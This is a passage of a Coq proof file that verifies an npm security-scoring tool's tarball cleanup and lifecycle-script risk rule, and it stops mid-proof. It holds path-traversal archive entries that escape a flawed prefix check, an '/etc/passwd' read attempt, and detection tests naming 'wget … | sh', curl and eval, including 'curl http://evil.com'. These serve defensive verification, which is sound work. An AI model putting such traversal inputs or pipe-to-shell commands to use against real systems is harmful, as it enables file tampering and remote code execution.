(** [path.join] never returns the empty string. *)
Lemma normalize_truthy (p : string) : truthy (normalize p) = true.
Proof.
  unfold normalize. destruct p as [| c p]; [reflexivity |].
  destruct (joinWith "/" (normalizeSegments _ _)) as [| d body].
  - destruct (isAbsolute _); [reflexivity |].
    destruct (hasTrailingSlash _); reflexivity.
  - destruct (isAbsolute _); [reflexivity |].
    destruct (hasTrailingSlash _); reflexivity.
Qed.

Lemma join_truthy (args : list string) : truthy (join args) = true.
Proof.
  unfold join. destruct (filter _ args); [reflexivity | apply normalize_truthy].
Qed.

(** A successful removal leaves nothing at or below the path. *)
Lemma removeTree_removes (p q : string) (w : World) :
  isWithin p q = true -> q ∉ removeTree p w.
Proof.
  intros Hin Hq. unfold removeTree in Hq.
  apply elem_of_filter in Hq as [Hout _]. congruence.
Qed.

(** A removal creates nothing. *)
Lemma removeTree_subseteq (p : string) (w : World) : removeTree p w ⊆ w.
Proof.
  intros q Hq. unfold removeTree in Hq. now apply elem_of_filter in Hq as [_ Hq].
Qed.
End TarballFacts.

Section TarballClaims.
Import JS Path TarballAnalyzer.

Variable Analysis : Type.
Variable fs_mkdir : string -> World -> World * outcome unit.
Variable fs_write : string -> World -> World * WriteEnd.
Variable download : string -> string -> World -> World * settlement unit.
Variable archive : string -> World -> list Header * ArchiveEnd.
Variable contents : string -> World -> Analysis.
Variable rmError : string -> World -> option string.

(** The [try] block either leaves [extractedPath] unset or sets it to the
    extraction directory under the temp path. *)
Lemma tryBlock_extractedPath (tarballUrl tempPath : string) (w : World) :
  let fr := fst (tryBlock Analysis fs_mkdir fs_write download archive contents
                          tarballUrl tempPath
                          {| world := w; extractedPath := None |}) in
  extractedPath fr = None \/
  extractedPath fr = Some (join [tempPath; "extracted"]).
Proof.
  unfold tryBlock, bindM, onWorld, setExtractedPath, settled.
  cbn [world extractedPath].
  destruct (fs_mkdir tempPath w) as [w1 [[] | e1]]; cbn; [| now left].
  destruct (download tarballUrl _ w1) as [w2 [[[] | e2] |]]; cbn;
    [| now left | now left].
  destruct (_extractTarball fs_mkdir fs_write archive _ _ w2)
    as [w3 [[[] | e3] |]]; cbn; now right.
Qed.

(** The [finally] block settles whatever the removals do. *)
Lemma cleanup_settles (tempPath : string) (fr : Frame) :
  snd (cleanup rmError tempPath fr) = Settled (Return tt).
Proof.
  unfold cleanup, ignoringErrors, bindM, onWorld, fs_rm, ret, settled.
  destruct (extractedPath fr) as [p |]; [destruct (truthy p) |];
    repeat match goal with
           | |- context [rmError ?q ?w'] => destruct (rmError q w'); cbn
           end; reflexivity.
Qed.

(** The [finally] block when no removal fails: the temp path is removed, and
    before it the extraction directory if it was set. *)
Lemma cleanup_world (tempPath : string) (fr : Frame) :
  (forall p w, rmError p w = None) ->
  world (fst (cleanup rmError tempPath fr)) =
  removeTree tempPath
    (match extractedPath fr with
     | Some p => if truthy p then removeTree p (world fr) else world fr
     | None => world fr
     end) /\
  extractedPath (fst (cleanup rmError tempPath fr)) = extractedPath fr.
Proof.
  intros Hrm. unfold cleanup, ignoringErrors, bindM, onWorld, fs_rm, ret, settled.
  destruct (extractedPath fr) as [p |] eqn:E; [destruct (truthy p) |];
    rewrite ?Hrm; cbn; rewrite ?Hrm; cbn; rewrite ?E; split; reflexivity.
Qed.

(** C8 (amended).  When the URL is empty [analyzeTarball] throws at once and
    leaves the file system as it is.  Otherwise the call returns or throws
    exactly when its [try] block does (return, or an exception from the
    directory creation, the download or the extraction), and whenever it
    does, provided the removals themselves do not fail, nothing exists at or
    below the scratch directory, nor at or below the extraction directory
    once extraction has been started.  A removal that fails is ignored. *)
Theorem analyzeTarball_cleans_up (this : Analyzer)
    (tarballUrl packageName : string) (w : World) :
  (forall p w', rmError p w' = None) ->
  let run :=
    analyzeTarballFrame Analysis fs_mkdir fs_write download archive contents
      rmError this tarballUrl packageName w in
  let body :=
    tryBlock Analysis fs_mkdir fs_write download archive contents tarballUrl
      (tempPathOf this packageName) {| world := w; extractedPath := None |} in
  (truthy tarballUrl = false ->
   world (fst run) = w /\ exists message, snd run = Settled (Throw message)) /\
  (truthy tarballUrl = true ->
   (snd run = Pending <-> snd body = Pending) /\
   (forall result, snd run = Settled result ->
      (forall q, isWithin (tempPathOf this packageName) q = true ->
                 q ∉ world (fst run)) /\
      (forall p q, extractedPath (fst run) = Some p ->
                   isWithin p q = true -> q ∉ world (fst run)))).
Proof.
  intros Hrm. cbv zeta. unfold analyzeTarballFrame. split; intros Hurl; rewrite Hurl.
  - cbn. split; [reflexivity | eexists; reflexivity].
  - cbn [negb]. unfold tryFinally.
    pose proof (tryBlock_extractedPath tarballUrl (tempPathOf this packageName) w)
      as Hpath. cbv zeta in Hpath.
    destruct (tryBlock _ _ _ _ _ _ _ _ _) as [fr1 [result1 |]]; cbn [fst snd] in *.
    2:{ split; [split; reflexivity | discriminate]. }
    pose proof (cleanup_world (tempPathOf this packageName) fr1 Hrm) as [Hworld Hkeep].
    pose proof (cleanup_settles (tempPathOf this packageName) fr1) as Hsettles.
    destruct (cleanup rmError _ fr1) as [fr2 r2]. cbn [fst snd] in *. subst r2.
    cbn [fst snd]. split; [split; discriminate |].
    intros result _. rewrite Hworld. split.
    + intros q Hq. now apply removeTree_removes.
    + intros p q Hp Hq. rewrite Hkeep in Hp.
      destruct Hpath as [Hnone | Hsome]; [congruence |].
      rewrite Hsome in Hp. injection Hp as <-. rewrite Hsome, join_truthy.
      intros Hin. apply removeTree_subseteq in Hin.
      revert Hin. now apply removeTree_removes.
Qed.
End TarballClaims.

Section TarballScenarios.
Import JS Path TarballAnalyzer TarballExamples.

(** A run on an archive with the package directory and a file in it, in
    which every call succeeds: the call returns, and afterwards neither the
    scratch directory nor the extraction directory exists. *)
Lemma analyzeTarball_cleans_up_witness :
  (exists files,
     snd (analyzeTarball nat mkdirOk writeOk downloadOk archiveOk countPaths rmOk
            analyzer "https://registry.example/pkg.tgz" "pkg" ∅)
     = Settled (Return files)) /\
  ("/tmp/npm-security-score/pkg"
     ∉ fst (analyzeTarball nat mkdirOk writeOk downloadOk archiveOk countPaths rmOk
              analyzer "https://registry.example/pkg.tgz" "pkg" ∅)) /\
  ("/tmp/npm-security-score/pkg/extracted"
     ∉ fst (analyzeTarball nat mkdirOk writeOk downloadOk archiveOk countPaths rmOk
              analyzer "https://registry.example/pkg.tgz" "pkg" ∅)).
Proof.
  pose proof (analyzeTarball_cleans_up nat mkdirOk writeOk downloadOk archiveOk
                countPaths rmOk analyzer "https://registry.example/pkg.tgz" "pkg" ∅
                (fun _ _ => eq_refl)) as H.
  cbv zeta in H. destruct H as [_ H]. destruct (H eq_refl) as [_ Hclean].
  unfold analyzeTarball.
  destruct (analyzeTarballFrame _ _ _ _ _ _ _ _ _ _ _) as [fr result] eqn:E.
  cbn [fst snd] in *.
  assert (Hresult : result = Settled (Return 7%nat)).
  { apply (f_equal snd) in E. cbn [snd] in E. rewrite <- E. vm_compute. reflexivity. }
  destruct (Hclean _ Hresult) as [Htemp Hextracted].
  split; [exists 7%nat; exact Hresult |]. split.
  - apply Htemp. reflexivity.
  - apply (Hextracted "/tmp/npm-security-score/pkg/extracted").
    + apply (f_equal fst) in E. cbn [fst] in E. rewrite <- E. reflexivity.
    + reflexivity.
Defined.

(** C8, counterexample.  On the same archive, when the removals are refused
    the call still returns its analysis, and the scratch directory and the
    extraction directory are left behind. *)
Lemma analyzeTarball_leaves_directories :
  snd (analyzeTarball nat mkdirOk writeOk downloadOk archiveOk countPaths rmDenied
         analyzer "https://registry.example/pkg.tgz" "pkg" ∅)
  = Settled (Return 7%nat) /\
  existsIn (fst (analyzeTarball nat mkdirOk writeOk downloadOk archiveOk countPaths
                   rmDenied analyzer "https://registry.example/pkg.tgz" "pkg" ∅))
           "/tmp/npm-security-score/pkg" = true /\
  existsIn (fst (analyzeTarball nat mkdirOk writeOk downloadOk archiveOk countPaths
                   rmDenied analyzer "https://registry.example/pkg.tgz" "pkg" ∅))
           "/tmp/npm-security-score/pkg/extracted" = true.
Proof.
  repeat split; vm_compute; reflexivity.
Qed.

(** An archive whose only entry is a file in a directory that no entry
    makes: the write fails, [next] is never called, and the call neither
    returns nor throws; the [finally] block does not run and the scratch
    directory stays. *)
Lemma analyzeTarball_pending_on_bare_archive :
  snd (analyzeTarball nat mkdirOk writeOk downloadOk archiveBare countPaths rmOk
         analyzer "https://registry.example/pkg.tgz" "pkg" ∅)
  = Pending /\
  existsIn (fst (analyzeTarball nat mkdirOk writeOk downloadOk archiveBare countPaths
                   rmOk analyzer "https://registry.example/pkg.tgz" "pkg" ∅))
           "/tmp/npm-security-score/pkg" = true.
Proof.
  split; vm_compute; reflexivity.
Qed.

(** C1, the analyzer at the failing inputs.  A directory entry named
    [../extracted-evil/] and a file entry named [../extracted-evil/pwn]
    resolve beside the extraction root, pass the prefix test, and the
    directory is made and the file written there; [getFileContent] with
    [../../extracted-evil/secret] passes the same test and returns the content
    of a file beside the root.  An entry that climbs to a path without the
    root as prefix is skipped, and such a file path is refused. *)
Theorem prefix_test_admits_sibling_paths :
  entryAction extractRoot siblingEntry =
    WriteFile "/tmp/npm-security-score/pkg/extracted-evil/pwn" /\
  isWithin extractRoot "/tmp/npm-security-score/pkg/extracted-evil/pwn" = false /\
  entryAction extractRoot siblingDirectory =
    MakeDirectory "/tmp/npm-security-score/pkg/extracted-evil/" /\
  snd (_extractTarball mkdirOk writeOk archiveEscaping
         "/tmp/npm-security-score/pkg/package.tgz" extractRoot ∅)
  = Settled (Return tt) /\
  existsIn (fst (_extractTarball mkdirOk writeOk archiveEscaping
                   "/tmp/npm-security-score/pkg/package.tgz" extractRoot ∅))
           "/tmp/npm-security-score/pkg/extracted-evil/pwn" = true /\
  getFileContent readFileOf extractRoot "../../extracted-evil/secret" worldWithSecret
    = Return "/tmp/npm-security-score/pkg/extracted-evil/secret" /\
  isWithin extractRoot "/tmp/npm-security-score/pkg/extracted-evil/secret" = false /\
  entryAction extractRoot climbingEntry = SkipOutside /\
  getFileContent readFileOf extractRoot "../../../etc/passwd" worldWithSecret
    = Throw "Invalid file path".
Proof.
  repeat split; vm_compute; reflexivity.
Qed.
End TarballScenarios.

(** ** The repository's unit tests, replayed on the model *)

Section RepositoryTests.
Import JS Model Examples TestInputs.
Local Open Scope Q_scope.

(** The matcher on the idioms the patterns rely on: word boundaries, the
    [i] flag, greedy repetition with backtracking, and counting with [g]. *)
Example test_matcher :
  Regex.patternTest (Regex.toolWithArgument "curl") "CURL  http://x" = true /\
  Regex.patternTest (Regex.toolWithArgument "curl") "libcurl http://x" = false /\
  Regex.patternTest (Regex.toolWithArgument "curl") "curl" = false /\
  Regex.patternTest (Regex.toolWithArgument "http") "curl http://x" = false /\
  Regex.patternTest (Regex.toolThen "curl" "http") "curl -s http://x" = true /\
  Regex.patternTest (Regex.toolPipedTo "wget" "sh") "wget -qO- http://x |  sh" = true /\
  Regex.patternTest (Regex.callOf "eval") "eval (x)" = true /\
  Regex.patternTest (Regex.callOf "eval") "evaluate(x)" = false /\
  Regex.patternMatch LifecycleScriptRiskRule.chainPattern "a && b || c; d" = Some 3%nat /\
  Regex.patternMatch LifecycleScriptRiskRule.chainPattern "a | b & c" = None.
Proof. by_evaluation. Qed.

Example test_calculator_scores :
  scoreIs ScoreCalculator.defaultConfig [] 100 /\
  scoreIs ScoreCalculator.defaultConfig
    [fixedRule "rule1" (Some 10) None; fixedRule "rule2" (Some 5) None] 85 /\
  scoreIs {| ScoreCalculator.baseScore := 100; ScoreCalculator.minScore := 50;
             ScoreCalculator.maxScore := 100 |}
    [fixedRule "big-deduction" (Some 100) None] 50 /\
  scoreIs {| ScoreCalculator.baseScore := 150; ScoreCalculator.minScore := 0;
             ScoreCalculator.maxScore := 100 |} [] 100 /\
  scoreIs ScoreCalculator.defaultConfig [failingRule "error-rule" "Rule error"] 100 /\
  scoreIs {| ScoreCalculator.baseScore := 100; ScoreCalculator.minScore := 0;
             ScoreCalculator.maxScore := 150 |}
    [fixedRule "deduction-rule" (Some 5) None; fixedRule "bonus-rule" None (Some 10)]
    105 /\
  scoreIs ScoreCalculator.defaultConfig [fixedRule "big-bonus" None (Some 50)] 100.
Proof. by_evaluation. Qed.

Example test_lifecycle_rule :
  (let r := LifecycleScriptRiskRule.evaluate extractLifecycleScripts normalizeScript
              (LifecycleScriptRiskRule.make 30) (packageWith None) in
   LifecycleScriptRiskRule.deduction r = 0 /\
   LifecycleScriptRiskRule.details r
     = LifecycleScriptRiskRule.Reason "No lifecycle scripts found") /\
  (let r := LifecycleScriptRiskRule.evaluate extractLifecycleScripts normalizeScript
              (LifecycleScriptRiskRule.make 30) (packageWith (Some safeScripts)) in
   LifecycleScriptRiskRule.deduction r = 0 /\
   LifecycleScriptRiskRule.resultRiskLevel r = RiskNone) /\
  (let r := LifecycleScriptRiskRule.evaluate extractLifecycleScripts normalizeScript
              (LifecycleScriptRiskRule.make 30) (packageWith (Some pipedInstall)) in
   LifecycleScriptRiskRule.deduction r = 30 /\
   LifecycleScriptRiskRule.resultRiskLevel r = RiskHigh) /\
  LifecycleScriptRiskRule.risk
    (LifecycleScriptRiskRule._analyzeScript "cmd1 && cmd2 && cmd3 && cmd4 && cmd5")
    = 1%nat.
Proof. by_evaluation. Qed.

Example test_version_parsing :
  UpdateBehaviorRule._parseVersion "1.2.3-beta.1" =
    Some {| UpdateBehaviorRule.major := 1; UpdateBehaviorRule.minor := 2;
            UpdateBehaviorRule.patch := 3;
            UpdateBehaviorRule.prerelease := Some "beta.1";
            UpdateBehaviorRule.build := None |} /\
  UpdateBehaviorRule._parseVersion "v1.2.3" = UpdateBehaviorRule._parseVersion "1.2.3" /\
  UpdateBehaviorRule._parseVersion "1.2" = None /\
  (UpdateBehaviorRule._compareVersionStrings UpdateExamples.localeCompare
     "1.0.0" "1.0.1" < 0)%Z /\
  (UpdateBehaviorRule._compareVersionStrings UpdateExamples.localeCompare
     "2.0.0" "1.9.9" > 0)%Z /\
  UpdateBehaviorRule.jumpType
    (UpdateBehaviorRule._analyzeVersionJump
       (UpdateExamples.defaultRule (Return None)) "1.0.0" "1.10.0")
    = Some UpdateBehaviorRule.MinorJump /\
  UpdateBehaviorRule.isUnusual
    (UpdateBehaviorRule._analyzeVersionJump
       (UpdateExamples.defaultRule (Return None)) "1.0.0" "1.1.0") = false /\
  UpdateBehaviorRule._isSuspiciousScript "curl http://evil.com" = true /\
  UpdateBehaviorRule._isSuspiciousScript "jest" = false.
Proof. by_evaluation. Qed.

Example test_update_rule :
  (let r := UpdateExamples.run (UpdateExamples.defaultRule (Return (Some sizeSpike)))
              (Some (UpdateExamples.snapshotOf "1.1.0")) in
   UpdateBehaviorRule.deduction r = 5 /\
   UpdateBehaviorRule.riskLevel r = RiskLow) /\
  (let r := UpdateExamples.run
              (UpdateExamples.defaultRule (Return (Some newSuspiciousScript)))
              (Some (UpdateExamples.snapshotOf "1.1.0")) in
   UpdateBehaviorRule.deduction r = 10 /\
   UpdateBehaviorRule.riskLevel r = RiskHigh) /\
  (let r := UpdateExamples.run
              (UpdateExamples.defaultRule (Return (Some majorJumpHistory)))
              (Some (UpdateExamples.snapshotOf "3.0.0")) in
   UpdateBehaviorRule.deduction r = 5 /\
   UpdateBehaviorRule.riskLevel r = RiskLow) /\
  (let r := UpdateExamples.run
              (UpdateExamples.defaultRule (Return (Some normalUpdate)))
              (Some (UpdateExamples.snapshotOf "1.0.1")) in
   UpdateBehaviorRule.deduction r = 0 /\
   UpdateBehaviorRule.riskLevel r = RiskNone) /\
  (let r := UpdateExamples.run
              (UpdateExamples.defaultRule (Return (Some spikeAndScript)))
              (Some (UpdateExamples.snapshotOf "1.1.0")) in
   UpdateBehaviorRule.deduction r = 10 /\
   UpdateBehaviorRule.riskLevel r = RiskHigh).
Proof. by_evaluation. Qed.
End RepositoryTests.

(** ** Lifecycle-script risk rule: further properties *)

Section LifecycleFacts.
Import JS Regex Model LifecycleScriptRiskRule.
Local Open Scope Q_scope.

Variable extract : PackageData -> StringMap.
Variable normalize : string -> string.

Lemma allMatches_length (ps : list Pattern) (script : string) (i : nat) :
  (length (allMatches ps script i) <= length ps)%nat.
Proof.
  revert i. induction ps as [| p ps IH]; intros i; cbn [allMatches length]; [lia |].
  destruct (patternTest p script); cbn [length]; specialize (IH (S i)); lia.
Qed.

Lemma allObfuscations_length (ps : list Pattern) (script : string) (i : nat) :
  (length (allObfuscations ps script i) <= length ps)%nat.
Proof.
  revert i. induction ps as [| p ps IH]; intros i;
    cbn [allObfuscations length]; [lia |].
  destruct (patternMatch p script) as [n |]; [destruct (0 <? n)%nat |];
    cbn [length]; specialize (IH (S i)); lia.
Qed.

(** The first match exists exactly when some pattern of the list matches. *)
Lemma firstMatch_existsb (ps : list Pattern) (script : string) (i : nat) :
  match firstMatch ps script i with Some _ => true | None => false end =
  existsb (fun p => patternTest p script) ps.
Proof.
  revert i. induction ps as [| p ps IH]; intros i; cbn [firstMatch existsb];
    [reflexivity |].
  destruct (patternTest p script); [reflexivity | apply IH].
Qed.

(** A script flagged high risk has risk at least 3. *)
Lemma highRisk_script_risk (script : string) :
  isHighRisk (_analyzeScript script) = true -> (3 <= risk (_analyzeScript script))%nat.
Proof.
  unfold _analyzeScript. cbv zeta.
  destruct (firstMatch highRiskPatterns script 0) as [h |];
    destruct (allMatches suspiciousCommands script 0) as [| s ss];
    destruct (allObfuscations obfuscationPatterns script 0) as [| o os];
    destruct (patternMatch chainPattern script) as [n |];
    try destruct (3 <=? n)%nat;
    cbn [risk isHighRisk length map app orb Nat.add Nat.mul];
    intros; try discriminate; lia.
Qed.

(** X1.  For every script text: a script flagged high risk has risk at
    least 3; the risk is 0 exactly when there is no issue, and exactly when
    the level is none; the level is high exactly when the script is flagged or
    its risk is at least 3; and the risk never exceeds 37 (3 for a high-risk
    pattern, 23 suspicious patterns, 5 obfuscation patterns at 2, 1 for
    chaining). *)
Theorem analyzeScript_invariants (script : string) :
  (isHighRisk (_analyzeScript script) = true -> (3 <= risk (_analyzeScript script))%nat) /\
  (risk (_analyzeScript script) = 0%nat <-> issues (_analyzeScript script) = []) /\
  (risk (_analyzeScript script) = 0%nat <-> riskLevel (_analyzeScript script) = RiskNone) /\
  (riskLevel (_analyzeScript script) = RiskHigh <->
   isHighRisk (_analyzeScript script) = true \/ (3 <= risk (_analyzeScript script))%nat) /\
  (risk (_analyzeScript script) <= 37)%nat.
Proof.
  pose proof (allMatches_length suspiciousCommands script 0) as Hs.
  pose proof (allObfuscations_length obfuscationPatterns script 0) as Ho.
  change (length suspiciousCommands) with 23%nat in Hs.
  change (length obfuscationPatterns) with 5%nat in Ho.
  unfold _analyzeScript. cbv zeta.
  destruct (firstMatch highRiskPatterns script 0) as [h |];
    destruct (allMatches suspiciousCommands script 0) as [| s ss];
    destruct (allObfuscations obfuscationPatterns script 0) as [| o os];
    destruct (patternMatch chainPattern script) as [n |];
    try destruct (3 <=? n)%nat;
    cbn [risk issues isHighRisk riskLevel length map app orb Nat.add Nat.mul] in *;
    repeat split; intros;
    repeat match goal with
           | |- context [(?a <=? ?b)%nat] => destruct (Nat.leb_spec a b)
           | H : context [(?a <=? ?b)%nat] |- _ => destruct (Nat.leb_spec a b)
           | H : _ ++ _ = [] |- _ => apply app_eq_nil in H; destruct H
           end;
    cbn [orb] in *;
    try discriminate; try lia; try reflexivity;
    try (left; reflexivity); try (right; lia);
    match goal with
    | H : _ \/ _ |- _ => destruct H; try discriminate; lia
    end.
Qed.
End LifecycleFacts.

Section LifecycleEvaluateFacts.
Import JS Regex Model LifecycleScriptRiskRule LifecycleSpec.
Local Open Scope Q_scope.

Variable extract : PackageData -> StringMap.
Variable normalize : string -> string.

(** One turn of the loop over the scripts. *)
Lemma analyzeEntry_step findings totalRisk hasHighRisk (entry : string * string) :
  analyzeEntry normalize (findings, totalRisk, hasHighRisk) entry =
  if (0 <? risk (analysisOf normalize entry))%nat then
    (findings ++ [findingOf normalize entry],
     (totalRisk + risk (analysisOf normalize entry))%nat,
     isHighRisk (analysisOf normalize entry) || hasHighRisk)
  else (findings, totalRisk, hasHighRisk).
Proof.
  destruct entry as [hk sc]. unfold analyzeEntry, findingOf, analysisOf.
  cbn [fst snd].
  destruct (0 <? risk (_analyzeScript (normalize sc)))%nat; [| reflexivity].
  now destruct (isHighRisk (_analyzeScript (normalize sc))).
Qed.

(** The loop over the scripts, from any state: the findings of the risky
    entries are appended in order, their risks are added, and the flag is
    raised by any high-risk entry. *)
Lemma fold_analyzeEntry (scripts : list (string * string))
    findings totalRisk hasHighRisk :
  fold_left (analyzeEntry normalize) scripts (findings, totalRisk, hasHighRisk) =
  (findings ++ map (findingOf normalize) (riskyEntries normalize scripts),
   (totalRisk + list_sum (map (fun e => risk (analysisOf normalize e)) scripts))%nat,
   hasHighRisk || existsb (fun e => isHighRisk (analysisOf normalize e)) scripts).
Proof.
  revert findings totalRisk hasHighRisk.
  induction scripts as [| e scripts IH]; intros findings totalRisk hasHighRisk.
  - cbn. now rewrite app_nil_r, Nat.add_0_r, orb_false_r.
  - cbn [fold_left]. rewrite analyzeEntry_step.
    unfold riskyEntries. rewrite filter_cons. fold (riskyEntries normalize scripts).
    pose proof (highRisk_script_risk (normalize (snd e))) as Hhigh.
    fold (analysisOf normalize e) in Hhigh.
    unfold list_sum in *. cbn [map fold_right existsb].
    destruct (Nat.ltb_spec 0 (risk (analysisOf normalize e))) as [Hpos | Hzero].
    + rewrite IH. destruct (decide _) as [_ | Hn]; [| contradiction].
      cbn [map]. rewrite <- app_assoc. cbn [app].
      repeat (apply pair_equal_spec; split); try reflexivity; try lia.
      destruct (isHighRisk (analysisOf normalize e)), hasHighRisk; reflexivity.
    + rewrite IH. destruct (decide _) as [Hp | _]; [lia |].
      assert (Hlow : isHighRisk (analysisOf normalize e) = false).
      { destruct (isHighRisk _); [specialize (Hhigh eq_refl); lia | reflexivity]. }
      rewrite Hlow. cbn [orb].
      repeat (apply pair_equal_spec; split); try reflexivity; lia.
Qed.

(** What [analyzeScripts] computes. *)
Lemma analyzeScripts_spec (scripts : StringMap) :
  analyzeScripts normalize scripts =
  (map (findingOf normalize) (riskyEntries normalize scripts),
   list_sum (map (fun e => risk (analysisOf normalize e)) scripts),
   existsb (fun e => isHighRisk (analysisOf normalize e)) scripts).
Proof. unfold analyzeScripts. now rewrite fold_analyzeEntry. Qed.

Lemma mathFloor_bounds (x : Q) : 0 <= x -> 0 <= mathFloor x /\ mathFloor x <= x.
Proof.
  intros Hx. unfold mathFloor. split; [| apply Qfloor_le].
  change 0 with (inject_Z (Qfloor 0)). rewrite <- Zle_Qle.
  now apply Qfloor_resp_le.
Qed.

(** The tier function stays between 0 and the weight. *)
Lemma deductionFor_bounds (w : Q) (totalRisk : nat) (hasHighRisk : bool) :
  0 <= w -> 0 <= deductionFor w totalRisk hasHighRisk /\
            deductionFor w totalRisk hasHighRisk <= w.
Proof.
  intros Hw. unfold deductionFor.
  destruct (hasHighRisk || (3 <=? totalRisk)%nat); [split; [exact Hw | apply Qle_refl] |].
  destruct (2 <=? totalRisk)%nat.
  { destruct (mathFloor_bounds (w * 0.75)) as [H1 H2]; [lra |]. split; [exact H1 | lra]. }
  destruct (1 <=? totalRisk)%nat.
  { destruct (mathFloor_bounds (w * 0.5)) as [H1 H2]; [lra |]. split; [exact H1 | lra]. }
  split; [apply Qle_refl | exact Hw].
Qed.

(** X2.  For every package, whatever its scripts, the deduction of the rule
    lies between 0 and the rule's weight, provided the weight is not
    negative. *)
Theorem lifecycle_deduction_bounded (rule : BaseRule) (packageData : PackageData) :
  0 <= weight rule ->
  0 <= deduction (evaluate extract normalize rule packageData) /\
  deduction (evaluate extract normalize rule packageData) <= weight rule.
Proof.
  intros Hw. unfold evaluate.
  destruct (negb (isEnabled rule)); [split; [apply Qle_refl | exact Hw] |].
  destruct (length (keys (extract packageData)) =? 0)%nat;
    [split; [apply Qle_refl | exact Hw] |].
  destruct (analyzeScripts normalize (extract packageData)) as [[f t] h].
  cbn [deduction]. now apply deductionFor_bounds.
Qed.

(** X3.  For an enabled rule, the overall risk level is high exactly when
    the normalised text of some lifecycle script matches a high-risk pattern,
    and then the full weight is deducted. *)
Theorem lifecycle_high_risk_iff (rule : BaseRule) (packageData : PackageData) :
  isEnabled rule = true ->
  (resultRiskLevel (evaluate extract normalize rule packageData) = RiskHigh <->
   exists entry, In entry (extract packageData) /\
                 matchesHighRisk (normalize (snd entry)) = true) /\
  (resultRiskLevel (evaluate extract normalize rule packageData) = RiskHigh ->
   deduction (evaluate extract normalize rule packageData) = weight rule).
Proof.
  intros Hen.
  assert (Hflag : forall e, isHighRisk (analysisOf normalize e)
                            = matchesHighRisk (normalize (snd e))).
  { intros e. unfold analysisOf, _analyzeScript, matchesHighRisk. cbv zeta.
    cbn [isHighRisk]. apply firstMatch_existsb. }
  unfold evaluate. rewrite Hen. cbn [negb].
  destruct (extract packageData) as [| e l] eqn:E.
  - cbn. split; [| discriminate]. split; [discriminate |]. now intros (entry & [] & _).
  - cbn [keys map length Nat.eqb]. rewrite analyzeScripts_spec. cbn [resultRiskLevel deduction].
    set (h := existsb _ (e :: l)). set (t := list_sum _).
    assert (Hh : h = true <-> exists entry, In entry (e :: l) /\
                                 matchesHighRisk (normalize (snd entry)) = true).
    { unfold h. rewrite existsb_exists. split; intros (x & Hin & Hx); exists x;
        (split; [exact Hin |]); [now rewrite <- Hflag | now rewrite Hflag]. }
    rewrite <- Hh. unfold riskLevelFor, deductionFor. destruct h; cbn [orb].
    + split; [tauto | reflexivity].
    + split; [| destruct (2 <=? t)%nat; [discriminate | destruct (1 <=? t)%nat; discriminate]].
      split; [| discriminate].
      destruct (2 <=? t)%nat; [discriminate | destruct (1 <=? t)%nat; discriminate].
Qed.
End LifecycleEvaluateFacts.

Section LifecycleReportFacts.
Import JS Regex Model LifecycleScriptRiskRule LifecycleSpec.
Local Open Scope Q_scope.

Variable extract : PackageData -> StringMap.
Variable normalize : string -> string.

Lemma sublist_map {A B : Type} (f : A -> B) (l k : list A) :
  sublist l k -> sublist (map f l) (map f k).
Proof. induction 1; cbn [map]; now constructor. Qed.

(** Entries without risk add nothing to the sum of the risks. *)
Lemma list_sum_riskyEntries (scripts : list (string * string)) :
  list_sum (map (fun e => risk (analysisOf normalize e)) scripts) =
  list_sum (map findingRisk (map (findingOf normalize) (riskyEntries normalize scripts))).
Proof.
  unfold riskyEntries, list_sum.
  induction scripts as [| e scripts IH]; [reflexivity |].
  rewrite filter_cons. cbn [map fold_right]. rewrite IH.
  destruct (decide _) as [Hp | Hz]; cbn [map fold_right findingOf findingRisk]; lia.
Qed.

(** X4.  For an enabled rule and a package with lifecycle scripts, the
    report is consistent: [totalScripts] is the number of scripts,
    [riskyScripts] is the number of findings and at most [totalScripts], every
    finding has a risk of at least 1, [totalRisk] is the sum of the findings'
    risks (so at least [riskyScripts], and 0 exactly when there is no
    finding), and the findings follow the order of the scripts. *)
Theorem lifecycle_report_consistent (rule : BaseRule) (packageData : PackageData) :
  isEnabled rule = true ->
  extract packageData <> [] ->
  exists findings totalRisk hasHighRisk,
    details (evaluate extract normalize rule packageData) =
      Report findings (length (extract packageData)) (length findings)
             totalRisk hasHighRisk /\
    (length findings <= length (extract packageData))%nat /\
    Forall (fun f => (1 <= findingRisk f)%nat) findings /\
    totalRisk = list_sum (map findingRisk findings) /\
    (length findings <= totalRisk)%nat /\
    (totalRisk = 0%nat <-> findings = []) /\
    sublist (map hook findings) (keys (extract packageData)).
Proof.
  intros Hen Hscripts. unfold evaluate. rewrite Hen. cbn [negb].
  destruct (extract packageData) as [| e l] eqn:E; [contradiction |].
  cbn [keys map length Nat.eqb]. rewrite analyzeScripts_spec. cbn [details].
  set (scripts := e :: l).
  assert (Hrisky : Forall (fun f => (1 <= findingRisk f)%nat)
                     (map (findingOf normalize) (riskyEntries normalize scripts))).
  { apply Forall_forall. intros f Hf.
    apply list_elem_of_In, in_map_iff in Hf as (x & <- & Hx).
    apply list_elem_of_In, list_elem_of_filter in Hx as [Hx _]. cbn [findingOf findingRisk]. lia. }
  assert (Hsum : forall fs, Forall (fun f => (1 <= findingRisk f)%nat) fs ->
                   (length fs <= list_sum (map findingRisk fs))%nat).
  { induction 1; cbn [length map list_sum fold_right] in *; unfold list_sum in *; lia. }
  specialize (Hsum _ Hrisky).
  assert (Hlen : (length (map (findingOf normalize) (riskyEntries normalize scripts))
                  <= length scripts)%nat).
  { rewrite length_map. apply (length_filter _ scripts). }
  assert (Horder : sublist
                     (map hook (map (findingOf normalize)
                                    (riskyEntries normalize scripts)))
                     (map fst scripts)).
  { rewrite map_map. cbn [findingOf hook]. apply sublist_map, sublist_filter. }
  rewrite list_sum_riskyEntries.
  revert Hrisky Hsum Hlen Horder.
  generalize (map (findingOf normalize) (riskyEntries normalize scripts)).
  intros fs Hrisky Hsum Hlen Horder.
  exists fs, (list_sum (map findingRisk fs)),
         (existsb (fun e => isHighRisk (analysisOf normalize e)) scripts).
  unfold keys. rewrite length_map.
  split; [reflexivity |]. split; [exact Hlen |]. split; [exact Hrisky |].
  split; [reflexivity |]. split; [exact Hsum |]. split; [| exact Horder].
  split.
  - intros Hzero. rewrite Hzero in Hsum. destruct fs; [reflexivity | cbn in Hsum; lia].
  - intros ->. reflexivity.
Qed.

(** X5.  With a weight of at least 2 the deduction is zero exactly when the
    overall risk level is none. *)
Theorem lifecycle_zero_deduction_iff (rule : BaseRule) (packageData : PackageData) :
  2 <= weight rule ->
  (deduction (evaluate extract normalize rule packageData) == 0 <->
   resultRiskLevel (evaluate extract normalize rule packageData) = RiskNone).
Proof.
  intros Hw. unfold evaluate.
  destruct (negb (isEnabled rule)); [cbn; split; reflexivity |].
